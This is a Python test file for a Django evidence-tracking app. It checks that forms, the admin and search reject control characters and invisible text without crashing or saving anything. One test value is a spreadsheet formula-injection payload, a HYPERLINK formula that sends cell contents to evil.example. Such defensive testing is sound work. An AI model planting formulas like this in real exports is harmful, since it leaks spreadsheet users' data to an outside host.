"""Hostile text sent to every kind of input: refused next to its field, the input kept,
nothing written, never a 500 (the audit's control-character and invisible-text findings)."""

import re

import pytest
from django.urls import reverse

from evidence.models import Evidence, Transition

from ..factories import EvidenceFactory

FORMULA_BEHIND_A_CONTROL_CHARACTER = '\x01=HYPERLINK("http://evil.example/?"&A1,"x")'
CONTROL_MESSAGE = "characters that cannot be shown or exported"
INVISIBLE_MESSAGE = "only invisible characters"


def error_of(html, field):
    """The error list shown next to a form field."""
    found = re.search(rf'<ul class="errorlist" id="id_{field}_error">(.*?)</ul>', html, re.S)
    return found.group(1) if found else ""


@pytest.mark.parametrize(
    ("field", "value", "message"),
    [
        ("title", FORMULA_BEHIND_A_CONTROL_CHARACTER, CONTROL_MESSAGE),
        ("title", "Tab\tin a title", CONTROL_MESSAGE),
        ("description", "First line\x0bsecond line", CONTROL_MESSAGE),
        ("description", "\u200b\u200b", INVISIBLE_MESSAGE),
        ("source_citation", "\u200b", INVISIBLE_MESSAGE),
    ],
)
def test_the_evidence_form_refuses_hostile_text_next_to_the_field(
    client_for, staff, evidence_data, field, value, message
):
    response = client_for(staff).post(
        reverse("evidence:new"), evidence_data(**{field: value, "action": "submit"})
    )
    assert response.status_code == 200
    html = response.content.decode()
    assert message in error_of(html, field)
    assert response.context["form"][field].value() == value  # kept, to correct
    assert not Evidence.objects.exists()


def test_a_return_reason_of_only_a_zero_width_space_is_refused(client_for, manager, staff):
    submitted = EvidenceFactory(author=staff, status=Evidence.Status.SUBMITTED)
    response = client_for(manager).post(
        reverse("evidence:return", args=[submitted.pk]), {"reason": "\u200b"}
    )
    assert response.status_code == 400
    assert INVISIBLE_MESSAGE in error_of(response.content.decode(), "reason")
    submitted.refresh_from_db()
    assert submitted.status == Evidence.Status.SUBMITTED
    assert not Transition.objects.exists()


def test_the_admin_refuses_hostile_text_too(client, superuser, strategy):
    evidence = EvidenceFactory()
    client.force_login(superuser)
    data = {
        "date": evidence.date.isoformat(),
        "country": evidence.country_id,
        "sub_objective": evidence.sub_objective_id,
        "title": FORMULA_BEHIND_A_CONTROL_CHARACTER,
        "description": evidence.description,
        "level": evidence.level,
        "kind": evidence.kind,
        "rating": evidence.rating,
        "source_url": evidence.source_url,
        "status": evidence.status,
        "author": evidence.author_id,
        "transitions-TOTAL_FORMS": 0,
        "transitions-INITIAL_FORMS": 0,
    }
    response = client.post(reverse("admin:evidence_evidence_change", args=[evidence.pk]), data)
    assert response.status_code == 200
    assert CONTROL_MESSAGE in response.content.decode()
    evidence.refresh_from_db()
    assert evidence.title != FORMULA_BEHIND_A_CONTROL_CHARACTER


@pytest.mark.parametrize("search", ["\x00", "bonded\x1b[31m", "\u200b"])
def test_a_search_with_hostile_text_is_a_filter_error_not_a_crash(client_for, staff, search):
    response = client_for(staff).get(reverse("evidence:list"), {"q": search})
    assert response.status_code == 200
    assert error_of(response.content.decode(), "q")
    assert list(response.context["page"]) == []
